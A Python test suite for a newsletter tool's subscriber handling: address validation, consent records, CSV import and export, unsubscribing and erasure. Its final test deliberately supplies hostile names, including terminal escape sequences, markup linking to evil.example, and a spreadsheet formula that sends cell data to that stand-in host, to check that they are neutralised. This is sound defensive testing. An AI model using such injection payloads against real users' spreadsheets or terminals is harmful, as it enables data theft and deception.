"""Subscribers: add, import, list, export (right of access), remove and forget."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from pressreview.config import Config
from pressreview.errors import NotFound, Refused
from pressreview.store import Store
from pressreview.store.schema import deliveries, events, subscribers
from pressreview.subscribers import (
    InvalidAddress,
    add_subscriber,
    export_subscribers,
    get_subscriber,
    import_subscribers,
    list_subscribers,
    normalize_email,
    remove_subscriber,
)


@pytest.fixture
def env(
    make_config: Callable[..., Config],
    store_for: Callable[[Config], Store],
    store_url: str,
    tmp_path: Path,
) -> tuple[Config, Store]:
    config = make_config(database_url=store_url, delivery={"outbox_dir": str(tmp_path / "outbox")})
    return config, store_for(config)


def test_addresses_are_checked_and_normalized() -> None:
    assert normalize_email("  Marie.Dupont@Example.FR ") == "Marie.Dupont@example.fr"
    assert normalize_email("jean@bücher.example") == "jean@xn--bcher-kva.example"
    for bad in [
        "",
        "marie",
        "marie@",
        "@example.fr",
        "marie@@example.fr",
        "marie dupont@example.fr",
    ]:
        with pytest.raises(InvalidAddress):
            normalize_email(bad)


def test_add_is_unique_case_insensitively_and_records_consent(env: tuple[Config, Store]) -> None:
    _, store = env
    s = add_subscriber(store, "Marie.Dupont@example.fr", name=" Marie  Dupont ", actor="claire")
    assert (s.status, s.name, s.consent_method) == ("active", "Marie Dupont", "staff")
    assert s.consent_at is not None and "claire" in (s.consent_detail or "")
    with pytest.raises(Refused, match="already a subscriber"):
        add_subscriber(store, "marie.dupont@EXAMPLE.fr", actor="claire")
    assert get_subscriber(store, "MARIE.DUPONT@example.fr").id == s.id
    with pytest.raises(NotFound):
        get_subscriber(store, "personne@example.fr")


def test_an_unsubscribed_person_is_not_added_back_by_staff(env: tuple[Config, Store]) -> None:
    _, store = env
    add_subscriber(store, "marie@example.fr", actor="claire")
    remove_subscriber(store, "marie@example.fr", actor="claire")
    with pytest.raises(Refused, match=r"unsubscribed on .*consent"):
        add_subscriber(store, "marie@example.fr", actor="claire")


def test_import_reports_bad_lines_and_is_idempotent(
    env: tuple[Config, Store], tmp_path: Path
) -> None:
    _, store = env
    path = tmp_path / "contacts.csv"
    path.write_text(
        "nom;courriel\n"
        "Hélène Dufossé;helene@example.fr\n"
        "Sans adresse;\n"
        "Karim Haddad;karim@example.org\n"
        "Faute;jerome.example.org\n"
        "\n"
        "Doublon;HELENE@example.fr\n",
        encoding="utf-8",
    )
    report = import_subscribers(store, path, actor="claire")
    assert report.added == 2
    assert [line for line, _ in report.bad] == [3, 5, 7]
    assert "empty address" in report.bad[0][1]
    assert "jerome.example.org" in report.bad[1][1]
    assert "repeat of line 2" in report.bad[2][1]
    helene = get_subscriber(store, "helene@example.fr")
    assert (helene.name, helene.status, helene.consent_method) == (
        "Hélène Dufossé",
        "active",
        "import",
    )
    assert "contacts.csv, line 2" in (helene.consent_detail or "")
    (history,) = export_subscribers(store, "helene@example.fr")[0]["consent_history"]
    assert (history["event"], history["method"], history["actor"]) == ("given", "import", "claire")
    assert history["detail"] == helene.consent_detail and history["at"] == helene.consent_at
    again = import_subscribers(store, path, actor="claire")
    assert (again.added, again.already) == (0, 2)
    assert len(list_subscribers(store)) == 2


def test_import_without_header_in_windows_1252(env: tuple[Config, Store], tmp_path: Path) -> None:
    _, store = env
    path = tmp_path / "excel.csv"
    path.write_bytes(
        "élodie@example.fr,Élodie Vandamme\njerome@example.org,Jérôme Caron\n".encode("cp1252")
    )
    report = import_subscribers(store, path, actor="claire")
    assert (report.added, report.encoding) == (1, "cp1252")
    assert report.bad[0][0] == 1  # a non-ASCII mailbox name needs SMTPUTF8: refused, said so
    assert get_subscriber(store, "jerome@example.org").name == "Jérôme Caron"


def test_import_leaves_out_people_who_left(env: tuple[Config, Store], tmp_path: Path) -> None:
    _, store = env
    add_subscriber(store, "marie@example.fr", actor="claire")
    remove_subscriber(store, "marie@example.fr", actor="claire")
    path = tmp_path / "c.csv"
    path.write_text("email\nmarie@example.fr\n", encoding="utf-8")
    report = import_subscribers(store, path, actor="claire")
    assert report.added == 0 and report.refused and "unsubscribed" in report.refused[0][1]
    assert get_subscriber(store, "marie@example.fr").status == "unsubscribed"


def test_export_one_person_holds_all_their_data(env: tuple[Config, Store]) -> None:
    _, store = env
    add_subscriber(store, "marie@example.fr", name="Marie", actor="claire")
    add_subscriber(store, "karim@example.org", actor="claire")
    (record,) = export_subscribers(store, "Marie@example.fr")
    assert record["email"] == "marie@example.fr" and record["consent_method"] == "staff"
    assert record["deliveries"] == []
    assert [e["action"] for e in record["events"]] == ["subscriber.add"]
    assert len(export_subscribers(store)) == 2


def _rows(store: Store, table: Any) -> list[Any]:
    with store.connect() as conn:
        return list(conn.execute(select(table)).mappings())


def test_remove_keeps_the_record_forget_erases_it(env: tuple[Config, Store]) -> None:
    config, store = env
    from tests.fixtures_deliver import SECRET, publish_fixed_issue

    publish_fixed_issue(store)
    marie = add_subscriber(store, "marie@example.fr", name="Marie Dupont", actor="claire")
    add_subscriber(store, "karim@example.org", actor="claire")
    from pressreview.deliver.campaign import send_issue

    send_issue(config, store, 12, environ={"PRESSREVIEW_SECRET_KEY": SECRET})
    remove_subscriber(store, "marie@example.fr", actor="claire")
    assert get_subscriber(store, "marie@example.fr").status == "unsubscribed"

    remove_subscriber(store, "marie@example.fr", actor="claire", forget=True)
    with pytest.raises(NotFound):
        get_subscriber(store, "marie@example.fr")
    assert [s["email"] for s in _rows(store, subscribers)] == ["karim@example.org"]
    rows = _rows(store, deliveries)
    assert len(rows) == 2  # the counts of issue 12 survive
    assert sum(1 for r in rows if r["subscriber_id"] is None and r["email"] is None) == 1
    everything = json.dumps(
        [dict(r) for r in _rows(store, deliveries) + _rows(store, events)], default=str
    )
    assert "marie" not in everything.lower() and "Dupont" not in everything
    assert not any(e["subscriber_id"] == marie.id for e in _rows(store, events))


# -- the command line --------------------------------------------------------------------


def test_cli_add_list_export_remove(env: tuple[Config, Store], cli: Callable[..., Any]) -> None:
    config, _ = env
    result = cli(config, "subscribers", "add", "marie@example.fr", "--name", "Marie Dupont")
    assert result.exit_code == 0 and "Added marie@example.fr" in result.output
    result = cli(config, "subscribers", "add", "MARIE@example.fr")
    assert result.exit_code == 1 and "already a subscriber" in result.output
    result = cli(config, "subscribers", "add", "pas-une-adresse")
    assert result.exit_code == 2 and "not a valid email address" in result.output
    assert "Traceback" not in result.output
    result = cli(config, "subscribers", "list", "--status", "active")
    assert "marie@example.fr" in result.output and "1 active" in result.output
    result = cli(config, "subscribers", "export", "marie@example.fr")
    assert json.loads(result.output)["name"] == "Marie Dupont"
    result = cli(config, "subscribers", "export", "--csv")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert rows[0]["email"] == "marie@example.fr" and rows[0]["consent_method"] == "staff"
    result = cli(config, "subscribers", "remove", "marie@example.fr")
    assert result.exit_code == 0 and "Unsubscribed" in result.output
    result = cli(config, "subscribers", "list", "--status", "active", "--json")
    assert json.loads(result.output) == []
    result = cli(config, "subscribers", "remove", "marie@example.fr", "--forget")
    assert result.exit_code == 0 and "Erased" in result.output
    result = cli(config, "subscribers", "export", "marie@example.fr")
    assert result.exit_code == 1 and "no such subscriber" in result.output


def test_cli_import_reports_line_numbers(
    env: tuple[Config, Store], cli: Callable[..., Any], tmp_path: Path
) -> None:
    config, _ = env
    path = tmp_path / "contacts.csv"
    path.write_text("email,name\nhelene@example.fr,Hélène\nmauvaise-adresse,X\n", encoding="utf-8")
    result = cli(config, "subscribers", "import", str(path))
    assert result.exit_code == 1
    assert f"{path}:3: 'mauvaise-adresse' is not a valid email address" in result.output
    assert "1 added, 0 already subscribed, 0 left out, 1 bad line(s)." in result.output
    result = cli(config, "subscribers", "import", str(path), "--json")
    assert json.loads(result.output)["already"] == 1
    result = cli(config, "subscribers", "import", str(tmp_path / "absent.csv"))
    assert result.exit_code == 1 and "file not found" in result.output


def test_demo_subscribers_file_imports(env: tuple[Config, Store]) -> None:
    _, store = env
    demo = Path(__file__).resolve().parent.parent / "pressreview" / "demo" / "subscribers.csv"
    report = import_subscribers(store, demo, actor="demo")
    assert report.added > 0 and not report.bad


def test_hostile_names_neither_drive_the_terminal_nor_the_spreadsheet(
    env: tuple[Config, Store], cli: Callable[..., Any], tmp_path: Path
) -> None:
    """A name comes from the public form: escape sequences would retitle or clear
    the staff's terminal, rich markup would make links, and a CSV cell starting
    with "=" is a spreadsheet formula."""
    config, store = env
    escapes = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mRouge\x1b[0m \u202eexe.txt"
    add_subscriber(store, "marie@example.fr", name=escapes, actor="claire")
    add_subscriber(store, "karim@example.org", name="[link=https://evil.example]Karim[/link]",
                   actor="claire")  # fmt: skip
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    add_subscriber(store, "jo@example.org", name=formula, actor="claire")
    add_subscriber(store, "+33@example.org", name="@SUM(1+1)", actor="claire")
    assert get_subscriber(store, "marie@example.fr").name == "]0;PWNED[2J[31mRouge[0m exe.txt"
    listed = cli(config, "subscribers", "list").output
    assert "\x1b" not in listed and "\x07" not in listed
    assert "[link=https://evil.example]Karim[/link]" in listed  # shown as typed, not a link
    exported = cli(config, "subscribers", "export", "--csv").output
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert rows["jo@example.org"]["name"] == "'" + formula
    assert rows["'+33@example.org"]["name"] == "'@SUM(1+1)"
    assert rows["karim@example.org"]["name"].startswith("[link=")  # not a formula: as is
    # The quote is the export's: importing the file gives the names back as they were.
    for email in ("jo@example.org", "+33@example.org"):
        remove_subscriber(store, email, actor="claire", forget=True)
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    import_subscribers(store, path, actor="claire")
    assert get_subscriber(store, "jo@example.org").name == formula
    assert get_subscriber(store, "+33@example.org").name == "@SUM(1+1)"
